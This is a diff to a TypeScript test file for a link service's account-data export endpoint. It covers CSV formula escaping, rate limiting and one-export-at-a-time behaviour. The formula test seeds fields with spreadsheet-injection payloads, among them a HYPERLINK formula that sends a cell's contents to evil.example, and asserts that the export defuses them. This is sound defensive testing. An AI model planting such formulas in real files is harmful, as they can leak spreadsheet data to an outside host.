@@ -1,9 +1,9 @@
 import { text } from "node:stream/consumers";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { fromBufferPromise } from "yauzl";
+import { defaultRates } from "../limits/rates.ts";
 import { insertClicks } from "../testing/clicks.ts";
-import { call, makeLink, openTestApi, signUp, type TestApi } from "../testing/testApi.ts";
-import { csvLine } from "./csv.ts";
+import { call, makeLink, openTestApi, signUp, type TestApi, type TestUser } from "../testing/testApi.ts";
 
 let api: TestApi;
 beforeAll(async () => {
@@ -19,6 +19,11 @@ async function unzip(bytes: Buffer): Promise<Record<string, string>> {
     files[entry.fileName] = await text(await zip.openReadStreamPromise(entry));
   }
   return files;
+}
+
+async function exported(user: TestUser): Promise<Record<string, string>> {
+  const headers = { authorization: `Bearer ${user.accessToken}` };
+  return unzip((await api.app.inject({ url: "/api/auth/export", headers })).rawPayload);
 }
 
 describe("GET /api/auth/export", () => {
@@ -69,9 +74,31 @@ describe("GET /api/auth/export", () => {
     ]);
     const clicks = files["clicks.csv"]?.trim().split("\n") ?? [];
     expect(clicks).toHaveLength(3);
-    expect(clicks[0]).toContain('"country"');
+    expect(clicks[0]).toMatch(/^link_id,at,.*,country,/);
     expect(JSON.stringify(files)).not.toContain("Foreign");
     expect(JSON.stringify(files)).not.toContain(foreign.id);
+  });
+
+  it("holds no text that a spreadsheet would run, whoever wrote it", async () => {
+    const user = await signUp(api);
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Totals")';
+    const link = await makeLink(api, user, { name: "=1+1" });
+    await call(api, "POST", "/api/groups", { user, body: { name: "@SUM(A1)" } });
+    await insertClicks(api, [
+      { ownerId: user.id, linkId: link.id, at: "2026-05-06T00:00:00.000Z", utmSource: formula, city: "-2+3" },
+      { ownerId: user.id, linkId: link.id, at: "2026-05-06T00:00:01.000Z", utmSource: "+1;\n=1", referrer: "\t=1" },
+    ]);
+    const files = await exported(user);
+    expect(files["links.csv"]).toContain(`${link.id},"'=1+1",`);
+    expect(files["groups.csv"]).toContain(`,"'@SUM(A1)",`);
+    expect(files["clicks.csv"]).toContain(`,"'${formula.replaceAll('"', '""')}",`);
+    expect(files["clicks.csv"]).toContain(`,"'-2+3",`);
+    expect(files["clicks.csv"]).toContain(`,"'+1;\n'=1",`);
+    for (const [name, content] of Object.entries(files).filter(([name]) => name.endsWith(".csv")))
+      expect({ name, formulas: content.split(/(?:^|[,;\t\r\n])"?/).filter((cell) => /^[=+\-@]/.test(cell)) }).toEqual({
+        name,
+        formulas: [],
+      });
   });
 
   it("is bigger than one page of anything where the account is", async () => {
@@ -98,13 +125,65 @@ describe("GET /api/auth/export", () => {
     expect(codes.size).toBe(2500);
   });
 
+  it("is given a few times an hour, and says when to come again", async () => {
+    const limited = await openTestApi({
+      settings: { rates: { ...defaultRates, export: { points: 2, seconds: 60 * 60 } } },
+    });
+    try {
+      const [user, other] = [await signUp(limited), await signUp(limited)];
+      const ask = (who: TestUser) =>
+        limited.app.inject({ url: "/api/auth/export", headers: { authorization: `Bearer ${who.accessToken}` } });
+      expect([(await ask(user)).statusCode, (await ask(user)).statusCode]).toEqual([200, 200]);
+      const refused = await ask(user);
+      expect(refused.statusCode).toBe(429);
+      expect(refused.json()).toMatchObject({ success: false, error: { type: "RATE_LIMIT_ERROR" } });
+      expect(Number(refused.headers["retry-after"])).toBeGreaterThan(3000);
+      expect((await ask(other)).statusCode).toBe(200);
+    } finally {
+      await limited.close();
+    }
+  });
+
+  it("is made one at a time for an account, until it has been read or its reader has gone", async () => {
+    const limited = await openTestApi({ settings: { rates: defaultRates } });
+    try {
+      const [user, other] = [await signUp(limited), await signUp(limited)];
+      await limited.services.orm.em.fork().execute(
+        `INSERT INTO link (id, owner_id, name, code, original_url, is_active, revision, created_at, updated_at)
+         SELECT gen_random_uuid(), ?, encode(sha256(n::text::bytea), 'hex'), 'slow-' || n, 'https://example.com/' || md5(n::text), true, 1, now(), now()
+         FROM generate_series(1, 30000) AS n`,
+        [user.id],
+        "run",
+      );
+      const address = await limited.app.listen({ port: 0, host: "127.0.0.1" });
+      const url = `${address}/api/auth/export`;
+      const ask = (who: TestUser, signal?: AbortSignal) =>
+        fetch(url, { headers: { authorization: `Bearer ${who.accessToken}` }, ...(signal && { signal }) });
+      const leaving = new AbortController();
+      // Its body is not read, so it waits.
+      expect((await ask(user, leaving.signal)).status).toBe(200);
+      const second = await ask(user);
+      expect([second.status, second.headers.get("retry-after")]).toEqual([429, "30"]);
+      const others = await ask(other);
+      expect(others.status).toBe(200);
+      await others.arrayBuffer();
+      leaving.abort();
+      await expect
+        .poll(
+          async () => {
+            const again = await ask(user, AbortSignal.timeout(20_000));
+            await again.arrayBuffer();
+            return again.status;
+          },
+          { timeout: 30_000 },
+        )
+        .toBe(200);
+    } finally {
+      await limited.close();
+    }
+  });
+
   it("needs a token", async () => {
     expect((await call(api, "GET", "/api/auth/export")).status).toBe(401);
-  });
-});
-
-describe("a line of CSV", () => {
-  it("puts into quotes what would be read as something else", () => {
-    expect(csvLine(["a", 'say "b"', "c,d", "e\nf", null, 1, true])).toBe('a,"say ""b""","c,d","e\nf",,1,true\r\n');
   });
 });
